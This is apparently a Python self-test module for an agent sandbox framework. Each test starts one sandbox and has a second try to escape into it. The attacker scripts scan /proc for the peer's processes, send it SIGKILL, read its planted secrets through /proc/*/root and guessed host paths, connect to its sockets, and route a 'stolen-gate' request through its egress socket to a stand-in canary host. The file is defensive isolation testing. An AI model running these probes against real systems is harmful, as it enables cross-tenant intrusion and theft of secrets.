"""Isolation between sandboxes: two sandboxes run at once; A (the attacker) goes after B.

B is a real sandbox started in a background thread. It plants secrets (in /tmp, /dev/shm,
HOME, /workspace), listens on an abstract unix socket, a TCP port and a UDP port, and
idles until the case is over. A gets B's marker and B's sandbox id for free (as if it had
guessed them) and tries to see, signal, read, connect to and impersonate B.

Notes on running two sandboxes from one :class:`Env` concurrently:

* the gate is created before the threads start (``Runtime.embedded_gate`` is lazily
  created and not locked);
* ``Outcome.sink`` of each run is "what reached the sink while that run was going", so with
  two runs at once it holds both runs' hits: these cases keep their own sink mark and look
  for A's marker;
* ``Env.run_policy`` sets and restores ``SELFTEST_OPERATOR_SECRET`` in ``os.environ`` per run;
  two overlapping runs race on that (the second may restore it after the first removed it,
  leaving it set in the selftest process after both end). It does not weaken the sandbox
  (the launcher's environment is empty), but the framework should count references under
  ``Env._lock`` instead. B is started first and A ends first, so here A restores B's value.
"""

from __future__ import annotations

import os
import secrets
import threading
import time
from pathlib import Path

from agentvm.selftest.framework import SINK_NAME, Env, Verdict, case

PEER_NAME = "iso-peer"

# B: plants secrets, listens, says "ready" in a control folder only it and the host share (a
# read-write grant of a host directory, the same on every substrate), idles until the host
# removes that file
_PEER = r"""
import os, socket, threading, time, select
M = "@MARK@"
S = "PEER-SECRET-" + M
for d in ("/tmp", "/dev/shm", "/home/agent", "/workspace"):
    try:
        with open(f"{d}/peer-{M}", "w") as f:
            f.write(S + "\n")
        os.chmod(f"{d}/peer-{M}", 0o644)
    except OSError as e:
        print("plant", d, e)
got = []
def serve(s, kind):
    s.settimeout(0.1)
    while True:
        try:
            if kind == "udp":
                data, _ = s.recvfrom(4096); got.append((kind, data)); continue
            c, _ = s.accept(); c.settimeout(0.5)
            try:
                got.append((kind, c.recv(4096))); c.sendall(b"peer:" + S.encode())
            except OSError:
                pass
            c.close()
        except (socket.timeout, OSError):
            if not os.path.exists(f"/peerctl/ready-{M}"):
                return
ab = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); ab.bind("\0avm-peer-" + M); ab.listen(8)
socks = [(ab, "abstract")]
try:  # B listens on TCP in its own network namespace (A cannot reach it there)
    tc = socket.socket(); tc.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tc.bind(("127.0.0.1", @PORT@)); tc.listen(8); socks.append((tc, "tcp"))
except OSError as e:
    print("tcp bind", e)
try:
    ud = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); ud.bind(("127.0.0.1", @PORT@)); socks.append((ud, "udp"))
except OSError as e:
    print("udp bind", e)
ts = [threading.Thread(target=serve, args=a, daemon=True) for a in socks]
for t in ts: t.start()
open(f"/peerctl/ready-{M}", "w").close()
end = time.monotonic() + @IDLE@
while time.monotonic() < end and os.path.exists(f"/peerctl/ready-{M}"):
    time.sleep(0.03)
print("PEER-GOT", got)
print("PEER-END")
"""


class Peer:
    """B: a sandbox running in a background thread."""

    def __init__(self, env: Env, *, idle: float = 15.0, **kw) -> None:
        self.env = env
        self.mark = secrets.token_hex(8)
        self.secret = "PEER-SECRET-" + self.mark
        self.port = 20000 + secrets.randbelow(20000)
        self.outcome = None
        self.error: BaseException | None = None
        self.pids: list[int] = []
        self.sandbox_id = ""
        env.runtime().embedded_gate()  # create the gate before two threads could race to it
        from agentvm.policy import MountGrant

        self.ctl = env.root / f"peerctl-{self.mark}"
        self.ctl.mkdir(mode=0o700)
        kw["mounts"] = tuple(kw.get("mounts", ())) + (MountGrant(str(self.ctl), "/peerctl", True),)
        self._before = set(os.listdir(env.paths.sandboxes))
        script = _PEER.replace("@MARK@", self.mark).replace("@PORT@", str(self.port)).replace("@IDLE@", str(idle))
        kw.setdefault("name", PEER_NAME)
        kw.setdefault("egress", bool(kw.get("allow")))
        kw.setdefault("timeout", idle + 5)

        def run():
            try:
                self.outcome = env.sandbox(script, lang="python", **kw)
            except BaseException as exc:  # reported by wait()
                self.error = exc

        self.thread = threading.Thread(target=run, name="selftest-peer", daemon=True)
        self.thread.start()
        self._name = kw["name"]
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and self.thread.is_alive() and not self.ready():
            time.sleep(0.02)

    def ready(self) -> bool:
        """B said so in the control folder; its host processes are those of its cgroup."""
        if not self.sandbox_id:
            new = [d for d in set(os.listdir(self.env.paths.sandboxes)) - self._before if d.startswith(self._name + "-")]
            self.sandbox_id = new[0] if len(new) == 1 else ""
        self.pids = _cgroup_pids(self.sandbox_id) if self.sandbox_id else []
        return (self.ctl / f"ready-{self.mark}").exists()

    def stop(self):
        try:
            (self.ctl / f"ready-{self.mark}").unlink()
        except OSError:
            pass
        self.thread.join(15)
        return self.outcome

    def python_pid_alive(self) -> bool:
        return any(os.path.exists(f"/proc/{p}") for p in self.pids)


def _cgroup_pids(sandbox_id: str) -> list[int]:
    """Host pids in a sandbox's cgroups (bwrap: its processes; gVisor: its Sentry and gofer)."""
    from agentvm import cgroups as cg

    layout = cg.detect()
    roots = ([layout.v2_root] if layout.v2_root else []) + list(layout.v1.values())
    pids: set[int] = set()
    for r in dict.fromkeys(roots):
        try:
            pids |= {int(x) for x in (r / cg.PARENT / sandbox_id / "cgroup.procs").read_text().split()}
        except (OSError, ValueError):
            continue
    return sorted(pids)


def _attack(env: Env, peer: Peer, code: str, **kw):
    assert "@MARK@" not in code
    kw.setdefault("env", {})["PEER_REV"] = peer.mark[::-1]
    script = code.replace("@PORT@", str(peer.port)).replace("@PEERID@", peer.sandbox_id)
    script = script.replace("@HOME@", str(env.home)).replace("@ROOT@", str(env.root)).replace("@SINKPORT@", str(env.sink.port))
    return env.sandbox(script, lang="python", timeout=10, **kw)


def _not_ready(peer: Peer) -> Verdict:
    out = peer.stop()
    return Verdict.error(f"the peer sandbox never became ready (error={peer.error!r}, "
                         f"out={(out.out[-300:] if out else '')!r})")


# ------------------------------------------------------------------------------------------

_SCAN = r"""
import os
M = os.environ["PEER_REV"][::-1]  # never literally in A's own cmdline/environ
mine = os.getpid()
found, visible = [], 0
for p in os.listdir("/proc"):
    if not p.isdigit():
        continue
    visible += 1
    for f in ("cmdline", "environ", "status", "comm"):
        try:
            data = open(f"/proc/{p}/{f}", "rb").read()
        except OSError:
            continue
        if M.encode() in data:
            found.append((p, f))
print("VISIBLE", visible)
print("FOUND", found)
"""


@case("iso.peer-processes", "isolation", "a concurrent sandbox's processes (cmdline/environ/status) are invisible in /proc",
      weakened_by="no-pidns")
def _(env: Env) -> Verdict:
    peer = Peer(env)
    if not peer.ready():
        return _not_ready(peer)
    a = _attack(env, peer, _SCAN)
    peer.stop()
    found = [l for l in a.stdout.splitlines() if l.startswith("FOUND")]
    if not found:
        return Verdict.error(f"attacker did not run: {a.out[-300:]}")
    if found[0] != "FOUND []":
        return Verdict.escaped(f"A saw B's processes: {found[0][:300]}")
    vis = next((l for l in a.stdout.splitlines() if l.startswith("VISIBLE")), "")
    return Verdict.contained(f"B's marker is in no /proc entry A can see ({vis.lower()} pids, B runs {len(peer.pids)} on the host)")


# ------------------------------------------------------------------------------------------

_SIGNAL = r"""
import os, signal
M = os.environ["PEER_REV"][::-1]  # never literally in A's own cmdline/environ
mine = {os.getpid(), os.getppid(), 1}
targets = []
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) not in mine:
        try:
            if M.encode() in open(f"/proc/{p}/cmdline", "rb").read():
                targets.append(int(p))
        except OSError:
            pass
# also the host pids of B (as if guessed)
targets += [int(x) for x in "@PEERPIDS@".split(",") if x]
res = []
for p in dict.fromkeys(targets):
    for sig in (0, signal.SIGKILL):
        try:
            os.kill(p, sig); res.append((p, int(sig), "ok"))
        except OSError as e:
            res.append((p, int(sig), e.errno))
print("SIGNALS", res)
"""


@case("iso.signal-peer", "isolation", "signal (SIGKILL) a concurrent sandbox's processes, found in /proc or by host pid",
      weakened_by="no-pidns+shared-uid+no-landlock")
def _(env: Env) -> Verdict:
    peer = Peer(env)
    if not peer.ready():
        return _not_ready(peer)
    pids = ",".join(str(p) for p in peer.pids)
    a = _attack(env, peer, _SIGNAL.replace("@PEERPIDS@", pids))
    alive = peer.python_pid_alive()
    b = peer.stop()
    sig = next((l for l in a.stdout.splitlines() if l.startswith("SIGNALS")), "")
    if not sig:
        return Verdict.error(f"attacker did not run: {a.out[-300:]}")
    # evidence is a SIGKILL the kernel accepted. (B dying alone is not: under shared-uid, A's
    # teardown sweeps every process of the shared uid, B's included.)
    if ", 9, 'ok')" in sig:
        return Verdict.escaped(f"A signalled B: {sig[:300]}; B alive after the attack: {alive}; "
                               f"B's exit: {b.exit_code if b else None}")
    return Verdict.contained(f"every signal failed and B finished normally: {sig[:300]}")


# ------------------------------------------------------------------------------------------

_FILES = r"""
import glob, os
M = os.environ["PEER_REV"][::-1]  # never literally in A's own cmdline/environ
S = "PEER-SECRET-" + M
paths = []
for d in ("/tmp", "/dev/shm", "/home/agent", "/workspace"):
    paths.append(f"{d}/peer-{M}")
for d in ("tmp", "dev/shm", "home/agent", "workspace"):
    paths += glob.glob(f"/proc/[0-9]*/root/{d}/peer-{M}")
    paths += glob.glob(f"/proc/[0-9]*/cwd/peer-{M}")
# guessed host paths of B's state
for pat in ("@HOME@/run/ws/*/peer-*", "@HOME@/workspaces/*/peer-*", "@ROOT@/*/peer-*", "@ROOT@/*/*/peer-*",
            "/tmp/agentvm-selftest-*/*/peer-*", "/tmp/agentvm-selftest-*/home/run/sandboxes/*/*",
            "/var/lib/agentvm/run/ws/*/peer-*", "/run/agentvm/ws/*/peer-*", "/workspace/*", "/tmp/*", "/dev/shm/*"):
    paths += glob.glob(pat)
got = []
for p in dict.fromkeys(paths):
    try:
        data = open(p, errors="replace").read(4096)
    except OSError as e:
        continue
    if S in data:
        got.append(p)
print("READ", got)
print("LEAK" if got else "NONE", S if got else "")
# B's gate socket (B's policy allows the sink): borrow B's egress identity
import socket
me = os.stat("/.agentvm/gate.sock") if os.path.exists("/.agentvm/gate.sock") else None
cands = ["@HOME@/run/sandboxes/@PEERID@/gate.sock"] + glob.glob("/proc/[0-9]*/root/.agentvm/gate.sock") \
        + glob.glob("@HOME@/run/sandboxes/*/gate.sock") + glob.glob("/run/agentvm/sandboxes/*/gate.sock")
res = []
for p in dict.fromkeys(cands):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(2)
    try:
        if me is not None and os.path.samestat(os.stat(p), me):
            continue  # our own socket, through our own /proc entry
        s.connect(p)
        s.sendall(f"GET http://canary.selftest:@SINKPORT@/stolen-gate-{M} HTTP/1.1\r\nHost: canary.selftest:@SINKPORT@\r\nConnection: close\r\n\r\n".encode())
        res.append((p, "CONNECTED", s.recv(300).decode(errors="replace")[:80]))
    except OSError as e:
        res.append((p, f"{type(e).__name__}: {e}"))
    s.close()
print("GATES", res)
for p in glob.glob("/proc/[0-9]*/root"):
    try:
        os.listdir(p); print("PROCROOT", p, "readable")
    except OSError as e:
        print("PROCROOT", p, e.strerror)
"""


@case("iso.peer-files", "isolation",
      "read a concurrent sandbox's /tmp, /dev/shm, HOME and workspace, and use its gate socket (same paths, "
      "/proc/*/root, guessed host paths)",
      weakened_by="shared-uid")
def _(env: Env) -> Verdict:
    mark0 = env.sink.mark()
    # B has a gate whose policy allows the sink: reaching B's socket would be worth it
    peer = Peer(env, allow=(f"{SINK_NAME}:{env.sink.port}",))
    if not peer.ready():
        return _not_ready(peer)
    a = _attack(env, peer, _FILES, egress=False)
    peer.stop()
    line = next((l for l in a.stdout.splitlines() if l.startswith("READ")), "")
    gates = next((l for l in a.stdout.splitlines() if l.startswith("GATES")), "")
    if not line or not gates:
        return Verdict.error(f"attacker did not run: {a.out[-300:]}")
    bad = []
    if peer.secret in a.stdout and line != "READ []":
        bad.append(f"A read B's secret: {line[:300]}")
    hits = [d for _, d in env.sink.since(mark0) if f"stolen-gate-{peer.mark}".encode() in d]
    if hits:
        bad.append(f"A's request left through B's gate endpoint and reached the sink: {hits[0][:100]!r}")
    if "CONNECTED" in gates:
        bad.append(f"A connected to another sandbox's gate socket: {gates[:300]}")
    if bad:
        return Verdict.escaped("; ".join(bad))
    roots = sorted({l.split(" ", 2)[2] for l in a.stdout.splitlines() if l.startswith("PROCROOT")})
    return Verdict.contained("none of B's planted files nor B's gate socket is reachable from A (own paths, "
                             f"/proc/*/root: {roots or 'only its own'}, guessed host paths); {gates[:200]}")


# ------------------------------------------------------------------------------------------

_SOCK = r"""
import os, socket
M = os.environ["PEER_REV"][::-1]  # never literally in A's own cmdline/environ
res = {}
def tryit(name, fam, typ, addr):
    s = socket.socket(fam, typ); s.settimeout(1)
    try:
        if typ == socket.SOCK_DGRAM:
            s.sendto(b"A-WAS-HERE-" + M.encode(), addr); res[name] = "sent"
        else:
            s.connect(addr); s.sendall(b"A-WAS-HERE-" + M.encode()); res[name] = "CONNECTED " + s.recv(200).decode(errors="replace")
    except OSError as e:
        res[name] = f"{type(e).__name__}: {e}"
    s.close()
tryit("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\0avm-peer-" + M)
tryit("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@))
tryit("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@))
# the abstract namespace, as the kernel lists it
try:
    print("UNIX", [l.split()[-1] for l in open("/proc/net/unix") if "avm-peer" in l])
except OSError as e:
    print("UNIX", e)
print("RES", res)
"""


@case("iso.peer-sockets", "isolation",
      "connect to a concurrent sandbox's abstract unix socket, loopback TCP port and UDP port",
      weakened_by="share-net+no-landlock")
def _(env: Env) -> Verdict:
    peer = Peer(env)
    if not peer.ready():
        return _not_ready(peer)
    a = _attack(env, peer, _SOCK, egress=False)
    b = peer.stop()
    res = next((l for l in a.stdout.splitlines() if l.startswith("RES")), "")
    if not res:
        return Verdict.error(f"attacker did not run: {a.out[-300:]}")
    b_got = next((l for l in (b.stdout if b else "").splitlines() if l.startswith("PEER-GOT")), "")
    if "CONNECTED" in res or ("A-WAS-HERE-" + peer.mark) in b_got:
        return Verdict.escaped(f"A reached B: {res[:300]}; B received: {b_got[:200]}")
    return Verdict.contained(f"B received nothing from A; A's attempts: {res[:300]}")


# ------------------------------------------------------------------------------------------

_GATE = r"""
import glob, os, socket
M = os.environ["PEER_REV"][::-1]  # never literally in A's own cmdline/environ
cands = ["@HOME@/run/sandboxes/@PEERID@/gate.sock"] + glob.glob("/proc/[0-9]*/root/.agentvm/gate.sock") \
        + glob.glob("@HOME@/run/sandboxes/*/gate.sock") + glob.glob("/run/agentvm/sandboxes/*/gate.sock")
res = []
for p in dict.fromkeys(cands):
    if p == "/proc/self/root/.agentvm/gate.sock" or p == "/.agentvm/gate.sock":
        continue
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(2)
    try:
        st = os.stat(p)
        if os.path.samestat(st, os.stat("/.agentvm/gate.sock")):
            continue  # our own socket, through our own /proc entry
        s.connect(p)
        s.sendall(f"GET http://canary.selftest:@SINKPORT@/stolen-gate-{M} HTTP/1.1\r\nHost: canary.selftest:@SINKPORT@\r\nConnection: close\r\n\r\n".encode())
        res.append((p, "CONNECTED", s.recv(300).decode(errors="replace")[:80]))
    except OSError as e:
        res.append((p, f"{type(e).__name__}: {e}"))
    s.close()
print("GATES", res)
"""
